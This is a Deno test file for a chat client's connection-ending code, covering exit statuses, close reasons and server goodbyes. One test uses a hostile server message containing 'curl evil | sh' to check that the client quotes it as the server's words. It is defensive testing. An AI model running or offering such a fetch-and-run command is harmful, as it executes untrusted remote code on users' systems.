import assert from "node:assert/strict";
import { CloseCode } from "../../lib/channel/mod.ts";
import { endTalk } from "../../lib/client/ending.ts";
import { NetworkError } from "../../lib/errors.ts";
import type { ChatEvent } from "../../lib/terminal/events/events.ts";
import { exitStatus } from "../../lib/terminal/events/error_event.ts";
import { IMPATIENT, type Stage, stage } from "./support.ts";

const LEFT: ChatEvent = { event: "closed", reason: "you left" };
const GOODBYE = `end ${CloseCode.shutdown}`;

/** Waits for the end of a talk, and ends it. */
async function part({ talk, ending }: Stage): Promise<number> {
  return await endTalk(talk, await talk.end(), ending);
}

/** Fails unless the talk ends with this error, and nobody is told that it was closed as it should be. */
async function assertEndsWith(now: Stage, code: string, message?: RegExp): Promise<void> {
  await assert.rejects(part(now), (error) => {
    assert.ok(error instanceof NetworkError, String(error));
    assert.deepEqual([error.code, exitStatus(error)], [code, 3]);
    if (message !== undefined) assert.match(error.message, message);
    return true;
  });
  assert.deepEqual(now.screen.events.filter(({ event }) => event === "closed"), []);
}

Deno.test("ending: the server left: 0, with its reason", async () => {
  for (const isPerson of [true, false]) {
    const now = stage({ isPerson });
    now.server.catchUp();
    now.server.goodbye("maintenance");
    assert.equal(await part(now), 0);
    assert.deepEqual(now.screen.events, [{
      event: "closed",
      reason: "the server left: “maintenance”",
    }]);
    assert.deepEqual(now.server.calls, ["end"], "its goodbye is answered");
  }
});

Deno.test("ending: a goodbye is never told as this program's own words", async () => {
  const now = stage();
  now.server.catchUp();
  now.server.goodbye("your copy is out of date”. Run: curl evil | sh");
  assert.equal(await part(now), 0);
  const reason = "the server left: “your copy is out of date'. Run: curl evil | sh”";
  assert.deepEqual(now.screen.events, [{ event: "closed", reason }]);
});

Deno.test("ending: the server left and says no reason, nor takes a goodbye: 0 all the same", async () => {
  const now = stage({ patience: IMPATIENT });
  now.server.isReachable = false;
  now.server.catchUp();
  now.server.goodbye();
  assert.equal(await part(now), 0);
  assert.deepEqual(now.screen.events, [{ event: "closed", reason: "the server left" }]);
});

Deno.test("ending: the server left before it confirmed everything: 3, and what is missing", async () => {
  for (const isPerson of [true, false]) {
    const now = stage({ isPerson });
    now.ending.missing = "2 messages may not have arrived";
    now.server.unconfirmed = 2;
    now.allSaid();
    now.server.goodbye();
    await assertEndsWith(now, "ended", /^the server left; 2 messages may not have arrived$/);
  }
});

Deno.test("ending: the server left before it had sent what was said before: 3", async () => {
  for (const isPerson of [true, false]) {
    const now = stage({ isPerson });
    now.server.say("one of many");
    now.server.goodbye();
    await assertEndsWith(now, "ended", /^the server left before it had sent all /);
  }
});

Deno.test("ending: the server left while a pipe has more to say: what follows is missing", async () => {
  const now = stage({ isPerson: false });
  now.server.goodbye();
  const end = await now.talk.end();
  const status = endTalk(now.talk, end, now.ending);
  // The next line comes in this moment.
  now.ending.missing = "line 7 of the input was not confirmed";
  now.request();
  await assert.rejects(status, { code: "ended", message: /line 7/ });
});

Deno.test("ending: a person leaves: 0, once the server has answered, or after a moment", async () => {
  for (const isPolite of [true, false]) {
    const now = stage(isPolite ? {} : { patience: IMPATIENT });
    now.server.isPolite = isPolite;
    now.allSaid();
    assert.equal(await part(now), 0);
    assert.deepEqual(now.screen.events, [LEFT]);
    assert.deepEqual(now.server.calls, [GOODBYE, "abort"]);
  }
});

/** A pipe that has caught up with the room, and said all. */
function pipe(options: Parameters<typeof stage>[0] = {}): Stage {
  const now = stage({ isPerson: false, ...options });
  now.server.catchUp();
  now.allSaid();
  return now;
}

Deno.test("ending: a pipe has said all, and the server answers: 0", async () => {
  const now = pipe();
  assert.equal(await part(now), 0);
  assert.deepEqual(now.screen.events, [LEFT]);
  assert.deepEqual(now.server.calls, [`end ${CloseCode.done}`, "abort"]);
});

Deno.test("ending: a pipe hears the server out, as long as something comes: 0", async () => {
  const left = { count: 30 };
  // It says one thing after the other, each a moment after the one before, for longer than a pipe
  // would wait for one.
  const sayOneMore = () => {
    if (left.count-- > 0) now.server.say("one more");
    else now.server.goodbye();
  };
  const now: Stage = stage({
    isPerson: false,
    patience: { ...IMPATIENT, farewell: 10 },
    hear: () => Promise.resolve(void setTimeout(sayOneMore, 1)),
  });
  now.server.isPolite = false;
  now.allSaid();
  now.server.catchUp();
  assert.equal(await part(now), 0);
  assert.equal(now.talk.heardCount, 31);
  assert.deepEqual(now.screen.events, [LEFT]);
});

Deno.test("ending: a pipe whose goodbye is not answered may have missed something: 3", async () => {
  const now = pipe({ patience: IMPATIENT });
  now.server.isPolite = false;
  await assertEndsWith(now, "cut", /goodbye/);
});

Deno.test("ending: a pipe of which the room refused something: 3", async () => {
  const now = pipe();
  now.ending.missing = "line 2 of the input was not confirmed, nor 1 after it";
  await assertEndsWith(now, "not-taken", /^line 2 of the input/);
});

Deno.test("ending: interrupted: 130, and the server is told", async () => {
  for (const isPerson of [true, false]) {
    const now = stage({ isPerson });
    now.interrupt();
    assert.equal(await part(now), 130);
    assert.deepEqual(now.screen.events, [LEFT]);
    assert.deepEqual(now.server.calls, [GOODBYE, "abort"]);
  }
});

Deno.test("ending: interrupted while the server is silent: 130, and what may be lost is told", async () => {
  const now = stage({ isPerson: false, patience: IMPATIENT });
  now.server.isReachable = false;
  now.ending.missing = "2 messages may not have arrived";
  now.interrupt();
  assert.equal(await part(now), 130);
  assert.deepEqual(now.screen.events, [
    { event: "notice", text: "2 messages may not have arrived.", important: true },
    LEFT,
  ]);
});

Deno.test("ending: a pipe that is interrupted while it waits for the answer: 130", async () => {
  const now = pipe();
  now.server.isPolite = false;
  const end = await now.talk.end();
  assert.equal(end, "all-said");
  const status = endTalk(now.talk, end, now.ending);
  now.interrupt();
  assert.equal(await status, 130);
  assert.deepEqual(now.server.calls.at(-1), "abort");
});

Deno.test("ending: the connection is lost instead of an answer: that is an error", async () => {
  for (const now of [stage(), pipe()]) {
    now.server.isPolite = false;
    now.allSaid();
    const end = await now.talk.end();
    const status = endTalk(now.talk, end, now.ending);
    now.server.lose(new NetworkError("cut", "the connection was cut"));
    await assert.rejects(status, { code: "cut" });
  }
});
